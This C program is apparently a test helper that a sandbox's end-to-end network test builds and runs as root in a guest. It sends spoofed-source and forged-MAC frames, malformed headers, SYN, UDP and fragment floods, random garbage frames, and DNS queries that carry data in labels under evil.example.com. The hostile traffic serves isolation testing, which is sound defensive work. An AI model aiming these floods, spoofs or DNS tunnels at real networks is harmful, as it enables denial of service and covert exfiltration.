// Frames that no kernel would send: what root in a guest can do to the network with a packet socket. A static program,
// which tests/e2e/test_network_hostile.py builds and copies into a sandbox.
//
//   frames spoof PORT GW4 ME4 OTHER4 GW6 ME6 OTHER6   one datagram to the gateway for each lie about its sender or its
//                                                     sizes, with the lie's name in it; "honest" ones are the last
//   frames syns TO PORT COUNT                         SYNs that nobody follows up; PORT 0: each to another port
//   frames datagrams TO PORT COUNT                    likewise
//   frames fragments TO COUNT                         beginnings and ends of packets whose middle never comes
//   frames queries TO COUNT                           DNS queries for names that carry data
//   frames garbage COUNT                              random bytes of random sizes behind plausible headers
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

enum { kUdp = 17, kTcp = 6, kFragment = 44, kLargest = 65535 + 14 };

static int link_socket;
static uint8_t my_mac[6], gateway_mac[6];

static void fail(const char *what) {
  perror(what);
  exit(1);
}

static void open_link(void) {
  struct ifreq request = {.ifr_name = "eth0"};
  struct sockaddr_ll at = {.sll_family = AF_PACKET};
  link_socket = socket(AF_PACKET, SOCK_RAW, 0);
  if (link_socket < 0 || ioctl(link_socket, SIOCGIFHWADDR, &request) < 0) fail("eth0");
  memcpy(my_mac, request.ifr_hwaddr.sa_data, 6);
  memcpy(gateway_mac, my_mac, 6);
  gateway_mac[5] = 1;
  if (ioctl(link_socket, SIOCGIFINDEX, &request) < 0) fail("eth0");
  at.sll_ifindex = request.ifr_ifindex;
  if (bind(link_socket, (struct sockaddr *)&at, sizeof(at)) < 0) fail("bind");
}

// What the guest's own kernel refuses is not sent, which is no failure of the attack's.
static void put_on_link(const uint8_t *frame, size_t size) {
  while (send(link_socket, frame, size, 0) < 0 && (errno == ENOBUFS || errno == EINTR)) sched_yield();
}

// ---- packets ---------------------------------------------------------------------------------------------------------

struct address {
  uint8_t bytes[16];
  size_t size;  // 4 or 16
};

static struct address parse(const char *text) {
  struct address address = {.size = strchr(text, ':') ? 16 : 4};
  if (inet_pton(address.size == 4 ? AF_INET : AF_INET6, text, address.bytes) != 1) {
    fprintf(stderr, "%s is no address\n", text);
    exit(1);
  }
  return address;
}

static void put16(uint8_t *at, unsigned value) {
  at[0] = (uint8_t)(value >> 8);
  at[1] = (uint8_t)value;
}

static uint32_t sum_of(const uint8_t *bytes, size_t size, uint32_t sum) {
  for (size_t i = 0; i < size; ++i) sum += i % 2 ? bytes[i] : (uint32_t)bytes[i] << 8;
  return sum;
}

static unsigned folded(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}

// A frame with everything as it should be; the lies are told by changing it.
struct frame {
  uint8_t bytes[kLargest];
  size_t size, ip, transport;  // where they begin
};

static void begin(struct frame *frame, const struct address *from, const struct address *to, int protocol, size_t payload) {
  const int v4 = to->size == 4;
  uint8_t *ip = frame->bytes + 14;
  frame->ip = 14;
  frame->transport = v4 ? 34 : 54;
  frame->size = frame->transport + payload;
  memset(frame->bytes, 0, frame->transport);
  memcpy(frame->bytes, gateway_mac, 6);
  memcpy(frame->bytes + 6, my_mac, 6);
  put16(frame->bytes + 12, v4 ? ETHERTYPE_IP : ETHERTYPE_IPV6);
  if (v4) {
    ip[0] = 0x45;
    put16(ip + 2, (unsigned)(20 + payload));
    ip[8] = 64;
    ip[9] = (uint8_t)protocol;
    memcpy(ip + 12, from->bytes, 4);
    memcpy(ip + 16, to->bytes, 4);
    put16(ip + 10, folded(sum_of(ip, 20, 0)));
  } else {
    ip[0] = 0x60;
    put16(ip + 4, (unsigned)payload);
    ip[6] = (uint8_t)protocol;
    ip[7] = 64;
    memcpy(ip + 8, from->bytes, 16);
    memcpy(ip + 24, to->bytes, 16);
  }
}

static void seal_ip(struct frame *frame) {
  if (frame->bytes[frame->ip] >> 4 != 4) return;
  put16(frame->bytes + frame->ip + 10, 0);
  put16(frame->bytes + frame->ip + 10, folded(sum_of(frame->bytes + frame->ip, 20, 0)));
}

static void seal_transport(struct frame *frame, int protocol, size_t checksum_at) {
  const int v4 = frame->bytes[frame->ip] >> 4 == 4;
  const size_t size = frame->size - frame->transport;
  uint32_t sum = sum_of(frame->bytes + frame->ip + (v4 ? 12 : 8), v4 ? 8 : 32, (uint32_t)protocol + (uint32_t)size);
  put16(frame->bytes + frame->transport + checksum_at, 0);
  put16(frame->bytes + frame->transport + checksum_at, folded(sum_of(frame->bytes + frame->transport, size, sum)));
}

static void make_datagram(struct frame *frame, const struct address *from, const struct address *to, unsigned from_port,
                          unsigned to_port, const void *payload, size_t size) {
  begin(frame, from, to, kUdp, 8 + size);
  uint8_t *udp = frame->bytes + frame->transport;
  memset(udp, 0, 8);
  put16(udp, from_port);
  put16(udp + 2, to_port);
  put16(udp + 4, (unsigned)(8 + size));
  memcpy(udp + 8, payload, size);
  seal_transport(frame, kUdp, 6);
}

static void make_syn(struct frame *frame, const struct address *from, const struct address *to, unsigned from_port, unsigned to_port) {
  begin(frame, from, to, kTcp, 20);
  uint8_t *tcp = frame->bytes + frame->transport;
  memset(tcp, 0, 20);
  put16(tcp, from_port);
  put16(tcp + 2, to_port);
  put16(tcp + 4, (unsigned)rand());
  tcp[12] = 5 << 4;
  tcp[13] = 2;
  put16(tcp + 14, 65535);
  seal_transport(frame, kTcp, 16);
}

static struct frame frame;

// The guest's own address of the family of `to`.
static struct address own(const struct address *to) {
  struct address mine = {.size = to->size};
  struct sockaddr_storage storage = {.ss_family = to->size == 4 ? AF_INET : AF_INET6};
  socklen_t size = sizeof(storage);
  struct sockaddr_in *v4 = (struct sockaddr_in *)&storage;
  struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)&storage;
  const int probe = socket(storage.ss_family, SOCK_DGRAM, 0);
  v4->sin_port = htons(9);
  memcpy(to->size == 4 ? (void *)&v4->sin_addr : (void *)&v6->sin6_addr, to->bytes, to->size);
  if (connect(probe, (struct sockaddr *)&storage, sizeof(storage)) < 0) fail("connect");
  if (getsockname(probe, (struct sockaddr *)&storage, &size) < 0) fail("getsockname");
  memcpy(mine.bytes, to->size == 4 ? (void *)&v4->sin_addr : (void *)&v6->sin6_addr, to->size);
  close(probe);
  return mine;
}

// ---- lies --------------------------------------------------------------------------------------------------------------

static void datagram_named(const char *name, const struct address *from, const struct address *to, unsigned port) {
  make_datagram(&frame, from, to, 4000, port, name, strlen(name));
}

static void send_frame(void) { put_on_link(frame.bytes, frame.size); }

static void lie_of_source(const char *name, const char *from, const struct address *gateway, unsigned port) {
  const struct address source = parse(from);
  datagram_named(name, &source, gateway, port);
  send_frame();
}

static void lies_of(const struct address *gateway, const struct address *me, unsigned port) {
  datagram_named("the MAC of another as source", me, gateway, port);
  frame.bytes[6 + 4] ^= 1;
  send_frame();
  datagram_named("the gateway's MAC as source", me, gateway, port);
  memcpy(frame.bytes + 6, gateway_mac, 6);
  send_frame();
  datagram_named("a group's MAC as source", me, gateway, port);
  memset(frame.bytes + 6, 0xff, 6);
  send_frame();
  datagram_named("for another MAC", me, gateway, port);
  frame.bytes[4] ^= 1;
  send_frame();
  datagram_named("in a VLAN", me, gateway, port);
  memmove(frame.bytes + 16, frame.bytes + 12, frame.size - 12);
  memcpy(frame.bytes + 12, "\x81\x00\x00\x01", 4);
  frame.size += 4;
  send_frame();
  datagram_named("a checksum that is wrong", me, gateway, port);
  frame.bytes[frame.transport + 6] ^= 0x55;
  send_frame();
  datagram_named("longer than its packet", me, gateway, port);
  put16(frame.bytes + frame.transport + 4, (unsigned)(frame.size - frame.transport + 1));
  seal_transport(&frame, kUdp, 6);
  send_frame();
  datagram_named("shorter than a header", me, gateway, port);
  put16(frame.bytes + frame.transport + 4, 7);
  seal_transport(&frame, kUdp, 6);
  send_frame();
  datagram_named("a packet longer than its frame", me, gateway, port);
  put16(frame.bytes + frame.ip + (gateway->size == 4 ? 2 : 4), 2000);
  seal_ip(&frame);
  send_frame();
  datagram_named("the other family's type", me, gateway, port);
  put16(frame.bytes + 12, gateway->size == 4 ? ETHERTYPE_IPV6 : ETHERTYPE_IP);
  send_frame();
  for (size_t size = 0; size < 60; ++size) put_on_link(frame.bytes, size);
}

static void spoof(char **words) {
  const unsigned port = (unsigned)atoi(words[0]);
  const struct address gateway4 = parse(words[1]), me4 = parse(words[2]), gateway6 = parse(words[4]), me6 = parse(words[5]);
  lie_of_source("the gateway's IPv4 address", words[1], &gateway4, port);
  lie_of_source("another sandbox's IPv4 address", words[3], &gateway4, port);
  lie_of_source("the IPv4 loopback", "127.0.0.1", &gateway4, port);
  lie_of_source("no IPv4 address", "0.0.0.0", &gateway4, port);
  lie_of_source("an IPv4 group", "224.0.0.1", &gateway4, port);
  lie_of_source("a public IPv4 address", "93.184.216.34", &gateway4, port);
  lie_of_source("the gateway's IPv6 address", words[4], &gateway6, port);
  lie_of_source("another sandbox's IPv6 address", words[6], &gateway6, port);
  lie_of_source("the IPv6 loopback", "::1", &gateway6, port);
  lie_of_source("no IPv6 address", "::", &gateway6, port);
  lie_of_source("an IPv6 group", "ff02::1", &gateway6, port);
  lie_of_source("a link-local address", "fe80::1", &gateway6, port);
  lie_of_source("a mapped address", "::ffff:127.0.0.1", &gateway6, port);
  lies_of(&gateway4, &me4, port);
  lies_of(&gateway6, &me6, port);
  const struct address loopback4 = parse("127.0.0.1"), loopback6 = parse("::1"), mapped = parse("::ffff:127.0.0.1");
  datagram_named("to the IPv4 loopback", &me4, &loopback4, port), send_frame();
  datagram_named("to the IPv6 loopback", &me6, &loopback6, port), send_frame();
  datagram_named("to the mapped loopback", &me6, &mapped, port), send_frame();
  datagram_named("honest 4", &me4, &gateway4, port), send_frame();
  datagram_named("honest 6", &me6, &gateway6, port), send_frame();
}

// ---- storms ------------------------------------------------------------------------------------------------------------

static unsigned nth_port(unsigned fixed, long i) { return fixed ? fixed : 1 + (unsigned)(i % 65535); }

static void syns(const struct address *to, unsigned port, long count) {
  const struct address me = own(to);
  for (long i = 0; i < count; ++i) {
    make_syn(&frame, &me, to, 1 + (unsigned)(i % 65535), nth_port(port, i));
    send_frame();
  }
}

static void datagrams(const struct address *to, unsigned port, long count) {
  const struct address me = own(to);
  for (long i = 0; i < count; ++i) {
    make_datagram(&frame, &me, to, 1 + (unsigned)(i % 65535), nth_port(port, i), "x", 1);
    send_frame();
  }
}

static void fragments(const struct address *to, long count) {
  static uint8_t filler[1400];
  const struct address me = own(to);
  for (long i = 0; i < count; ++i) {
    const unsigned offset = i % 2 ? 60000 / 8 : 0;  // the end of one, the beginning of another
    if (to->size == 4) {
      begin(&frame, &me, to, kUdp, sizeof(filler));
      put16(frame.bytes + frame.ip + 4, (unsigned)i);
      put16(frame.bytes + frame.ip + 6, offset ? offset : 0x2000);
      seal_ip(&frame);
    } else {
      begin(&frame, &me, to, kFragment, sizeof(filler));
      uint8_t *header = frame.bytes + frame.transport;
      memset(header, 0, 8);
      header[0] = kUdp;
      put16(header + 2, offset << 3 | !offset);
      put16(header + 6, (unsigned)i);
    }
    send_frame();
  }
}

static void queries(const struct address *to, long count) {
  const struct address me = own(to);
  for (long i = 0; i < count; ++i) {
    uint8_t query[128] = {(uint8_t)(i >> 8), (uint8_t)i, 1, 0, 0, 1};
    size_t size = 12;
    query[size++] = 60;
    for (int letter = 0; letter < 60; ++letter) query[size++] = (uint8_t)('a' + rand() % 26);
    memcpy(query + size, "\4evil\7example\3com\0\0\1\0\1", 22);
    make_datagram(&frame, &me, to, 1024 + (unsigned)(i % 60000), 53, query, size + 22);
    send_frame();
  }
}

static void garbage(long count) {
  static const unsigned types[] = {ETHERTYPE_IP, ETHERTYPE_IPV6, ETHERTYPE_ARP};
  for (long i = 0; i < count; ++i) {
    const size_t size = 14 + (size_t)rand() % (i % 16 ? 120 : 60000);
    for (size_t at = 0; at < size; ++at) frame.bytes[at] = (uint8_t)rand();
    memcpy(frame.bytes, gateway_mac, 6);
    memcpy(frame.bytes + 6, my_mac, 6);
    put16(frame.bytes + 12, types[i % 3]);
    if (i % 3 == 0) frame.bytes[14] = 0x45;
    if (i % 3 == 1) frame.bytes[14] = 0x60;
    put_on_link(frame.bytes, size);
  }
}

int main(int count, char **words) {
  const char *what = count > 1 ? words[1] : "";
  open_link();
  if (!strcmp(what, "spoof") && count == 9) return spoof(words + 2), 0;
  if (!strcmp(what, "garbage") && count == 3) return garbage(atol(words[2])), 0;
  if (count < 4) return fprintf(stderr, "see the beginning of frames.c\n"), 2;
  const struct address to = parse(words[2]);
  if (!strcmp(what, "syns")) return syns(&to, (unsigned)atoi(words[3]), atol(words[4])), 0;
  if (!strcmp(what, "datagrams")) return datagrams(&to, (unsigned)atoi(words[3]), atol(words[4])), 0;
  if (!strcmp(what, "fragments")) return fragments(&to, atol(words[3])), 0;
  if (!strcmp(what, "queries")) return queries(&to, atol(words[3])), 0;
  return 2;
}
